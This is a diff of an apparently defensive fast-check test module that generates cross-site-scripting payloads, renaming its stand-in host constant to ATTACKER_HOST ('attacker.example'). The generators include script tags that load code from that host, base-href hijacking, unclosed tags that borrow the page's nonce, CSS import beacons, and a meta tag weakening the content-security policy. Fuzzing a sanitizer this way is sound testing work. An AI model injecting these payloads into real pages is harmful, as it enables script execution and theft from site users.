@@ -3,7 +3,7 @@ import fc from 'fast-check'
 type Texts = fc.Arbitrary<string>
 
 /** Where foreign scripts and pictures lie; the browser of the attacks finds our own server under this name. */
-export const FOREIGN_HOST = 'attacker.example'
+export const ATTACKER_HOST = 'attacker.example'
 
 /** Is filled in with the payload's own number. */
 export const PAYLOAD_NUMBER = '№'
@@ -124,9 +124,9 @@ const address = fc.oneof(
   joined('data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="', code, '"/>'),
   joined('data:text/javascript,', code),
   pick(
-    `//${FOREIGN_HOST}/№`,
-    `http://${FOREIGN_HOST}/№`,
-    `http:${FOREIGN_HOST}/№`,
+    `//${ATTACKER_HOST}/№`,
+    `http://${ATTACKER_HOST}/№`,
+    `http:${ATTACKER_HOST}/№`,
     '/own/№',
     'https:/\\x.example',
     'blob:x',
@@ -187,21 +187,21 @@ const script = fc.oneof(
   joined('<svg><script>', encoded(code), '</script></svg>'),
   joined('<script>/*', pick('', '<!--'), '*/', code, pick('</script>', '</script x>', '</script\n>')),
   joined('<scr<script>ipt>', code, '</scr</script>ipt>'),
-  joined(`<base href=//${FOREIGN_HOST}/><script src=№></script><script>`, code, '</script>'),
+  joined(`<base href=//${ATTACKER_HOST}/><script src=№></script><script>`, code, '</script>'),
   // Left open, so that the page's own script, which follows, lends its nonce.
   pick(
-    `<script src=//${FOREIGN_HOST}/№ `,
-    `<script src=//${FOREIGN_HOST}/№ x="`,
-    `<script src=//${FOREIGN_HOST}/№ x='`,
+    `<script src=//${ATTACKER_HOST}/№ `,
+    `<script src=//${ATTACKER_HOST}/№ x="`,
+    `<script src=//${ATTACKER_HOST}/№ x='`,
     '<script src=data:,hit(№) ',
   ),
 )
 const style = pick(
-  `<style>@import '//${FOREIGN_HOST}/№.css'</style>`,
-  `<style>*{background:url(//${FOREIGN_HOST}/№)}</style>`,
-  `<p style="background:url(//${FOREIGN_HOST}/№)">x</p>`,
+  `<style>@import '//${ATTACKER_HOST}/№.css'</style>`,
+  `<style>*{background:url(//${ATTACKER_HOST}/№)}</style>`,
+  `<p style="background:url(//${ATTACKER_HOST}/№)">x</p>`,
   '<p style="width:expression(hit(№))">x</p>',
-  `<p style="x:\\65xpression(hit(№));behavior:url(//${FOREIGN_HOST}/№)">x</p>`,
+  `<p style="x:\\65xpression(hit(№));behavior:url(//${ATTACKER_HOST}/№)">x</p>`,
   '<meta http-equiv=content-security-policy content="script-src \'unsafe-inline\'"><script>hit(№)</script>',
 )
 const simple = fc.oneof(
